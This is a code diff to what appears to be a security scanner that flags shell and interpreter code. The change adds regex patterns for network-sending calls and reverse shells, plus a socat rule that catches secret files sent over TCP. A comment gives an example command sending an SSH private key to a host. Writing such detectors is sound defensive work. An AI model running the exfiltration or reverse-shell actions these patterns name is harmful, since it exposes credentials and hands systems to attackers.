@@ -168,7 +168,7 @@ const SHELL_CALL =
 
 /** Inline code that sends data to another host. */
 const SENDS_OVER_NETWORK =
-  /requests\.(post|put|patch|get)\s*\(|urlopen\s*\(|urllib\.request\.Request|http\.client|httpx\.(post|put)|\.sendall?\s*\(|smtplib|ftplib|fetch\s*\(|axios\.(post|put)|https?\.request\s*\(|Net::HTTP|LWP::|HTTP::Tiny|IO::Socket|TCPSocket|fsockopen|curl_exec|file_get_contents\s*\(\s*['"]https?:|Invoke-(WebRequest|RestMethod)|socket\.connect/;
+  /requests\.(post|put|patch|get)\s*\(|require\(\s*['"](https?|net|dgram|axios|node-fetch)['"]\s*\)|socket\.create_connection|urlopen\s*\(|urllib\.request\.Request|http\.client|httpx\.(post|put)|\.sendall?\s*\(|smtplib|ftplib|fetch\s*\(|axios\.(post|put)|https?\.request\s*\(|Net::HTTP|LWP::|HTTP::Tiny|IO::Socket|TCPSocket|fsockopen|curl_exec|file_get_contents\s*\(\s*['"]https?:|Invoke-(WebRequest|RestMethod)|socket\.connect/;
 /** The whole environment read from inside the program (one variable sent to its own service is normal). */
 const DUMPS_ENVIRONMENT =
   /\b(str|dict|repr|json\.dumps)\s*\(\s*os\.environ\s*\)|os\.environ\.(items|copy)\s*\(|JSON\.stringify\s*\(\s*process\.env\s*\)|ENV\.(to_h|to_a|inspect)\b|\\?%ENV\b|getenv\(\s*\)/;
@@ -183,8 +183,8 @@ export function judgeInterpreterCode(lang: string, code: string, span: { start: 
   if (/\bfork\b/.test(code) && /\b(while|loop|for|until)\b|\{\s*fork|fork\s*\)\s*while|fork\s+while/.test(code))
     j.report("exec.fork-bomb", span.start, span.end);
   if (
-    /socket|fsockopen|TCPSocket|IO::Socket|net\.connect|new\s+net\.Socket|\/inet\/(tcp|udp)\//i.test(code) &&
-    /dup2|pty\.spawn|\/bin\/(ba|z)?sh|subprocess|exec\s*\(|open3|spawn\(|popen|system\s*\(|proc_open|shell_exec|\|&\s*getline|cmd\.exe/i.test(
+    /socket|fsockopen|TCPSocket|IO::Socket|net\.connect|new\s+net\.Socket|require\(\s*['"]net['"]\s*\)|\/inet\/(tcp|udp)\//i.test(code) &&
+    /dup2|pty\.spawn|\/bin\/(ba|z)?sh|subprocess|exec\s*\(|open3|spawn\(|popen|system\s*\(|system\s*\$_|fdopen|proc_open|shell_exec|\|&\s*getline|cmd\.exe/i.test(
       code,
     )
   )
@@ -279,6 +279,13 @@ export function netcat(cmd: Cmd, j: Judgement) {
   if (cmd.name === "socat") {
     if (/\b(exec|system):/i.test(text) && /\b(tcp|udp|openssl|ssl)[46]?(-\w+)?:/i.test(text))
       j.report("net.reverse-shell", cmd.start, cmd.end);
+    // `socat -u FILE:~/.ssh/id_rsa TCP:host:port`: a file address sent to a network address.
+    else if (/\b(tcp|udp|openssl|ssl)[46]?(-connect)?:/i.test(text)) {
+      const file = cmd.args.find(
+        (w) => /^(file|open|gopen|create):/i.test(w.text) && isSecretFile(w.text.replace(/^\w+:/, "").split(",")[0]!, cmd),
+      );
+      if (file) j.reportWord("net.exfiltrate-secret", file);
+    }
     return;
   }
   // `-e /bin/sh`, `-c bash`: the connection drives a shell (bind or reverse shell).
